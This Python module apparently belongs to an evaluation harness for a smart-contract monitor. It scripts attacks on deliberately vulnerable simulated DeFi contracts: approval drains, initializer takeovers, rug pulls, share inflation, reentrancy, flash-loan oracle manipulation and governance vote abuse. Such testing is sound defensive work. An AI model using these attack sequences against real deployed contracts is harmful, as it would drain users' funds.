"""Attacks on the evaluation world's victims: two independent victim implementations per class.

Each attack takes the world, a seed and `step` (called after every transaction, so a monitor and
its breaker act between them), and returns the victim's key in `world.c`. Transactions that revert
(e.g. once the breaker paused the victim) are sent with check=False and count as blocked.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from .world import WAD, World, fresh

Step = Callable[[], object]


@dataclass(frozen=True)
class Attack:
    cls: str  # the attack class
    impl: str  # which victim implementation
    victim: str  # key in world.c
    asset: str  # key of the token it loses
    run: Callable[[World, int, Step], None]


def _send(w: World, contract: str, fn: str, *args: object, sender: str, step: Step) -> None:
    c = w.c[contract]
    w.chain.transact(c.address, c.abi.encode_call(fn, args), sender=sender, check=False)
    step()


def approval_mover(w: World, seed: int, step: Step) -> None:
    """One attacker tx moves many approvers' tokens through the mover (unchecked `src`)."""
    rnd = random.Random(seed)
    victims = rnd.sample(w.users, rnd.randint(4, 8))
    amounts = [w.bal("usd", v) for v in victims]
    thief = w.chain.accounts[2]
    _send(
        w,
        "puller",
        "pull_many",
        w.c["mover"].address,
        w.c["usd"].address,
        victims,
        amounts,
        thief,
        sender=thief,
        step=step,
    )


def approval_zap(w: World, seed: int, step: Step) -> None:
    """One call to the zap pulls many approvers' tokens and sends the swap output to the attacker."""
    rnd = random.Random(seed)
    victims = rnd.sample(w.users, rnd.randint(4, 8))
    amounts = [w.bal("usd", v) // 2 for v in victims]
    thief = fresh(f"zapthief{seed}")
    w.fund(thief)
    step()
    _send(
        w, "zap", "zap", w.c["usd"].address, victims, amounts, w.c["pair"].address, True, thief, sender=thief, step=step
    )


def slow_bridge(w: World, seed: int, step: Step) -> None:
    """Many fresh addresses each release a little under the cap with a forged (any) proof."""
    rnd = random.Random(seed)
    for i in range(rnd.randint(12, 20)):
        who = fresh(f"bridge{seed}:{i}")
        w.fund(who)
        step()
        amount = rnd.randint(600, 1_400) * WAD
        _send(w, "bridge", "release", who, amount, 10_000 * seed + i, bytes([1]) * 32, sender=who, step=step)


def slow_vault(w: World, seed: int, step: Step) -> None:
    """Many fresh addresses each redeem 'small' amounts the vault pays without checking shares."""
    rnd = random.Random(seed)
    v = w.c["vaultb"]
    for i in range(rnd.randint(12, 20)):
        who = fresh(f"vault{seed}:{i}")
        w.fund(who)
        step()
        shares = rnd.randint(900, 1_900) * WAD * int(v.totalSupply()) // max(w.bal("usd", v.address), 1)
        _send(w, "vaultb", "redeem", shares, who, who, sender=who, step=step)


def reinit_treasury(w: World, seed: int, step: Step) -> None:
    """Re-run the treasury's unguarded initializer, then sweep it."""
    thief = fresh(f"reinit{seed}")
    w.fund(thief)
    step()
    _send(w, "inita", "initialize", thief, sender=thief, step=step)
    amount = w.bal("usd", w.c["inita"].address)
    _send(w, "inita", "sweep", w.c["usd"].address, thief, amount, sender=thief, step=step)


def uninit_proxy(w: World, seed: int, step: Step) -> None:
    """Initialise the proxy its deployer left uninitialised, then withdraw everything."""
    thief = fresh(f"uninit{seed}")
    w.fund(thief)
    step()
    _send(w, "initb", "setup", thief, sender=thief, step=step)
    amount = w.bal("usd", w.c["initb"].address)
    _send(w, "initb", "withdraw", w.c["usd"].address, thief, amount, sender=thief, step=step)


def rug_pair(w: World, seed: int, step: Step) -> None:
    """The token's owner mints many times the supply and sells it into the V2-shaped pair."""
    rnd = random.Random(seed)
    r = w.rugger
    amount = rnd.randint(5, 30) * int(w.c["rug"].totalSupply())
    _send(w, "rug", "mint", r, amount, sender=r, step=step)
    _send(w, "rug", "approve", w.c["pair3"].address, amount, sender=r, step=step)
    _send(w, "pair3", "swap", False, amount, r, sender=r, step=step)


def rug_curve(w: World, seed: int, step: Step) -> None:
    """The owner mints to a fresh wallet, which sells into the launchpad curve in a few chunks."""
    rnd = random.Random(seed)
    dumper = fresh(f"dumper{seed}")
    w.fund(dumper)
    step()
    amount = rnd.randint(2, 6) * int(w.c["rug2"].totalSupply())
    _send(w, "rug2", "mint", dumper, amount, sender=w.rugger, step=step)
    _send(w, "rug2", "approve", w.c["curve"].address, amount, sender=dumper, step=step)
    for _ in range(3):
        _send(w, "curve", "sell", amount // 3, sender=dumper, step=step)


def _inflate(w: World, seed: int, step: Step, vault: str, enter: str, leave: str, sync: bool) -> None:
    rnd = random.Random(seed)
    thief = fresh(f"inflate{vault}{seed}")
    w.fund(thief)
    w.c["usd"].mint(thief, 200_000 * WAD)
    w.c["usd"].approve(w.c[vault].address, 2**256 - 1, sender=thief)
    step()
    args: tuple[object, ...] = (1, thief) if enter == "deposit" else (1,)
    _send(w, vault, enter, *args, sender=thief, step=step)
    _send(w, "usd", "transfer", w.c[vault].address, rnd.randint(20_000, 100_000) * WAD, sender=thief, step=step)
    if sync:
        _send(w, vault, "sync", sender=thief, step=step)
    for u in rnd.sample(w.users, 3):  # ordinary users deposit as usual and are rounded to nothing
        amount = rnd.randint(1_000, 5_000) * WAD
        _send(w, vault, enter, *((amount, u) if enter == "deposit" else (amount,)), sender=u, step=step)
    _send(w, vault, leave, *((1, thief, thief) if leave == "redeem" else (1,)), sender=thief, step=step)


def inflate_vault(w: World, seed: int, step: Step) -> None:
    """First-depositor share inflation on an empty ERC-4626 vault: 1 wei, donate, others round to 0."""
    _inflate(w, seed, step, "vault0", "deposit", "redeem", sync=False)


def inflate_pool(w: World, seed: int, step: Step) -> None:
    """The same on a staking pool whose stored total anyone can sync to a donated balance."""
    _inflate(w, seed, step, "pool0", "stake", "unstake", sync=True)


def reenter_bank(w: World, seed: int, step: Step) -> None:
    """Withdraw pays first; the callback moves the not-yet-zeroed balance to an accomplice (another
    function of the bank), who withdraws it again."""
    rnd = random.Random(seed)
    attacker, accomplice = w.chain.accounts[8], fresh(f"accomplice{seed}")
    w.fund(accomplice)
    step()
    stake = rnd.randint(5, 20) * WAD
    c = w.c["reenter"]
    w.chain.transact(
        c.address,
        c.abi.encode_call("hit_bank", (w.c["bank"].address, accomplice)),
        sender=attacker,
        value=stake,
        check=False,
    )
    step()
    _send(w, "bank", "withdraw", sender=accomplice, step=step)


def reenter_lender(w: World, seed: int, step: Step) -> None:
    """The lender reads the LP pool's price during the pool's exit callback (shares burnt, payment
    not yet booked: price doubled) and lends against it."""
    rnd = random.Random(seed)
    attacker = w.chain.accounts[8]
    stake = rnd.randint(80, 120) * WAD
    w.c["lender"].credit(w.c["reenter"].address, stake, sender=w.admin)  # the keeper books the collateral
    step()
    c = w.c["reenter"]
    w.chain.transact(
        c.address,
        c.abi.encode_call("hit_lender", (w.c["lp"].address, w.c["lender"].address, stake * 1000 * 9 // 10)),
        sender=attacker,
        value=stake,
        check=False,
    )
    step()


def _oracle(w: World, seed: int, step: Step, pair: str, victim: str, mode: int, depth: int, cash: int) -> None:
    rnd = random.Random(seed)
    c = w.c["oracle_attack"]
    amount = depth * rnd.randint(80, 120) // 100 * WAD
    w.chain.transact(
        c.address,
        c.abi.encode_call(
            "run", (w.c["flash"].address, w.c[pair].address, w.c[victim].address, mode, amount, cash * WAD)
        ),
        sender=w.chain.accounts[9],
        check=False,
    )
    step()


def oracle_lender(w: World, seed: int, step: Step) -> None:
    """Flash-borrow, pump ALT on the pair the lender reads, borrow against inflated collateral, unwind."""
    _oracle(w, seed, step, "pair", "spotlender", 1, 1_000_000, 200_000)


def oracle_desk(w: World, seed: int, step: Step) -> None:
    """Flash-borrow, pump ALT on the pair the OTC desk quotes from, sell ALT to the desk, unwind."""
    _oracle(w, seed, step, "pair2", "desk", 2, 600_000, 0)


def _recycle(
    w: World, seed: int, step: Step, gov: str, open_fn: str, vote_fn: str, vote_args: tuple[object, ...], settle_fn: str
) -> None:
    rnd = random.Random(seed)
    whale = fresh(f"recycler{gov}{seed}")
    w.fund(whale)
    supply = int(w.c["gov"].totalSupply())
    w.c["gov"].mint(whale, supply * rnd.randint(15, 25) // 100)  # a sizeable but minority holder
    step()
    thief = fresh(f"recycled-grant{gov}{seed}")
    _send(w, gov, open_fn, thief, w.bal("usd", w.c[gov].address) // 2, sender=whale, step=step)
    pid = int(w.c[gov].count() if gov == "dao" else w.c[gov].polls())
    holder = whale
    for i in range(4):  # vote, pass the tokens on, vote again
        _send(w, gov, vote_fn, pid, *vote_args, sender=holder, step=step)
        nxt = fresh(f"sock{gov}{seed}:{i}")
        w.fund(nxt)
        _send(w, "gov", "transfer", nxt, w.bal("gov", holder), sender=holder, step=step)
        holder = nxt
    _send(w, gov, vote_fn, pid, *vote_args, sender=holder, step=step)
    _send(w, gov, settle_fn, pid, sender=whale, step=step)


def recycle_dao(w: World, seed: int, step: Step) -> None:
    """One holder's tokens vote five times on a treasury proposal through sock accounts."""
    _recycle(w, seed, step, "dao", "propose", "vote", (), "execute")


def recycle_poll(w: World, seed: int, step: Step) -> None:
    """The same on the treasury poll (for-votes by current balance)."""
    _recycle(w, seed, step, "poll", "open_poll", "cast", (1,), "settle")


def _flash_vote(w: World, seed: int, step: Step, gov: str, open_fn: str, poll: bool, settle_fn: str) -> None:
    rnd = random.Random(seed)
    attacker = w.chain.accounts[9]
    # a lending market holds idle governance tokens: more than all the voters together
    w.c["gov"].mint(w.c["govflash"].address, int(w.c["gov"].totalSupply()) * rnd.randint(12, 20) // 10)
    step()
    thief = fresh(f"flashgrant{gov}{seed}")
    _send(
        w, gov, open_fn, thief, w.bal("usd", w.c[gov].address) * rnd.randint(30, 60) // 100, sender=attacker, step=step
    )
    pid = int(w.c[gov].count() if gov == "dao" else w.c[gov].polls())
    c = w.c["flashvoter"]
    amount = w.bal("gov", w.c["govflash"].address)
    w.chain.transact(
        c.address,
        c.abi.encode_call("run", (w.c["govflash"].address, w.c[gov].address, pid, poll, amount)),
        sender=attacker,
        check=False,
    )
    step()
    _send(w, gov, settle_fn, pid, sender=attacker, step=step)


def flash_vote_dao(w: World, seed: int, step: Step) -> None:
    """Borrow idle governance tokens for one transaction, vote a treasury grant through, execute it."""
    _flash_vote(w, seed, step, "dao", "propose", False, "execute")


def flash_vote_poll(w: World, seed: int, step: Step) -> None:
    """The same on the treasury poll."""
    _flash_vote(w, seed, step, "poll", "open_poll", True, "settle")


ATTACKS = [
    Attack("approval-drain", "mover", "mover", "usd", approval_mover),
    Attack("approval-drain", "zap", "zap", "usd", approval_zap),
    Attack("slow-drain", "bridge", "bridge", "usd", slow_bridge),
    Attack("slow-drain", "vault", "vaultb", "usd", slow_vault),
    Attack("reinitialisation", "treasury", "inita", "usd", reinit_treasury),
    Attack("reinitialisation", "proxy", "initb", "usd", uninit_proxy),
    Attack("mint-and-dump", "v2-pair", "pair3", "usd", rug_pair),
    Attack("mint-and-dump", "curve", "curve", "usd", rug_curve),
    Attack("share-inflation", "erc4626-vault", "vault0", "usd", inflate_vault),
    Attack("share-inflation", "stake-pool", "pool0", "usd", inflate_pool),
    Attack("reentrancy (cross-function / read-only)", "ether-bank", "bank", "eth", reenter_bank),
    Attack("reentrancy (cross-function / read-only)", "lp-lender", "lender", "usd", reenter_lender),
    Attack("oracle-manipulation (flash)", "spot-lender", "spotlender", "usd", oracle_lender),
    Attack("oracle-manipulation (flash)", "spot-desk", "desk", "usd", oracle_desk),
    Attack("governance vote recycling", "dao", "dao", "usd", recycle_dao),
    Attack("governance vote recycling", "poll", "poll", "usd", recycle_poll),
    Attack("flash-borrowed votes", "dao", "dao", "usd", flash_vote_dao),
    Attack("flash-borrowed votes", "poll", "poll", "usd", flash_vote_poll),
]
# Seeds: rules were developed on DEV only; HELD_OUT is reported separately and never tuned on.
DEV_SEEDS = (1, 2)
HELD_OUT_SEEDS = (101, 102, 103)
